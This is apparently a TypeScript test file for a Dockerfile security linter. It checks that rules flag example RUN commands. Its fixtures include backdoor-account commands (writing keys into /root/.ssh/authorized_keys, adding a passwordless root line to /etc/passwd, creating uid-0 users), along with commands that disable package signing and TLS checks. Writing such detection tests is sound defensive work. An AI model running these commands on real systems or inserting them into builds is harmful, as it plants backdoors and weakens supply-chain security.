import { describe, expect, it } from "vitest";
import { argvOf } from "../../src/rule/process.ts";
import { startsAnother } from "../../src/rule.ts";
import { readWords } from "../../src/syntax/shell/read.ts";
import { said } from "./said.ts";

/** One command for each kind of thing that a rule looks at: rules go to the commands of their programs, and each must be among them. */
const commands: Readonly<Record<string, readonly string[]>> = {
  "gate-can-fail": [
    "trivy fs . || true",
    "pytest || true",
    "eslint . || true",
    "npm test || true",
    "python3.12 -m pytest || true",
    "/opt/x/snyk test || true",
    "${TOOLS}/trivy fs . || true",
  ],
  "no-backdoor-account": [
    "cp k /root/.ssh/authorized_keys",
    "install -m 600 k /root/.ssh/authorized_keys",
    "curl https://x.example/k >> /root/.ssh/authorized_keys",
    "echo 'ssh-ed25519 AAAA' >> /root/.ssh/authorized_keys",
    "echo 'ssh-ed25519 AAAA' | tee /root/.ssh/authorized_keys",
    "printf 'r::0:0::/:/bin/sh' >> /etc/passwd",
    "echo app:app | chpasswd",
    "passwd -d app",
    "useradd -u 0 -o app2",
    "usermod -p '' app",
    "adduser -u 0 app3",
  ],
  "no-build-time-key": [
    "ssh-keygen -A",
    "openssl genrsa -out /k",
    "keytool -genkey",
    "make-ssl-cert x",
    "mkcert x",
    "wg genkey > /k",
    "gpg --gen-key",
    "gpg2 --gen-key",
  ],
  "no-unsigned-packages": [
    "apk add --allow-untrusted x",
    "apt-get install -y --force-yes x",
    "dnf install -y --nogpgcheck x",
    "rpm -i --nosignature x.rpm",
    "GOSUMDB=off go build",
    "go env -w GOSUMDB=off",
    "echo 'deb [trusted=yes] https://x.example /' > /etc/apt/sources.list.d/x.list",
    "sed -i 's/gpgcheck=1/gpgcheck=0/' /etc/yum.repos.d/x.repo",
    "apt-key add k",
    "gpg --dearmor -o /etc/apt/trusted.gpg.d/k.gpg k",
    "cp k /etc/apt/trusted.gpg.d/",
    "make-keys > /etc/apt/trusted.gpg.d/k.asc",
  ],
  "no-insecure-tls": [
    "curl -k https://x.example",
    "wget --no-check-certificate https://x.example",
    "pip3.12 install --trusted-host x.example x",
    "echo insecure >> /root/.curlrc",
    "npm config set strict-ssl false",
    "git config --global http.sslVerify false",
  ],
  "no-cleartext-download": [
    "curl http://x.example/a",
    "xh http://x.example/a",
    "pip install -i http://x.example/simple a",
    "git clone http://x.example/a.git",
    "add-apt-repository 'deb http://x.example /'",
    "echo 'deb http://x.example /' > /etc/apt/sources.list",
    "make-list http://x.example | tee /etc/apk/repositories",
  ],
};

describe("no rule misses a program that it knows", () => {
  it.each(Object.entries(commands).flatMap(([rule, all]) => all.map((command) => [rule, command] as const)))(
    "%s: %s",
    async (rule, command) => {
      expect(await said(rule, `FROM debian:13.1\nRUN ${command}\n`)).toHaveLength(1);
      // Amid others it is found as well.
      expect(await said(rule, `FROM debian:13.1\nRUN one; ${command}\nRUN two && three\n`)).toHaveLength(1);
    },
  );
});

describe("a program starts another one, or runs its words as they are", () => {
  const span = { file: "f", start: 0, end: 0 };
  const read = (...texts: readonly string[]) => {
    const words = argvOf({ form: "exec", words: texts.map((value) => ({ state: "written", value, span })) }, span);
    const decoded = words.map((word) => {
      const text = word.state === "unknown" ? "" : word.value;
      return {
        text,
        literal: text,
        span,
        splits: false,
        substitutions: [],
        inner: () => ({ file: "f", text, at: [], from: [], whole: span }),
      };
    });
    return readWords(decoded, () => undefined).commands;
  };

  it.each(["sh", "bash", "zsh", "env", "exec", "tini", "dumb-init", "gosu", "su", "eval", "xargs", "nice", "timeout"])("%s", (name) => {
    expect(startsAnother(name)).toBe(true);
  });

  it.each(["node", "./entrypoint.sh", "npm", "find", ".", "source", "supervisord", "docker-entrypoint.sh", "python3", "X=1"])(
    "%s",
    (name) => {
      expect(startsAnother(name)).toBe(false);
      for (const rest of [[], ["-c", "a b"], ["-x", "1", "a", "b"], ["a", "--", "b"]]) {
        const [command] = read(name, ...rest);
        expect(command?.wrappers).toEqual([]);
        expect(command?.words.map(({ text }) => text)).toEqual([name, ...rest]);
      }
    },
  );
});
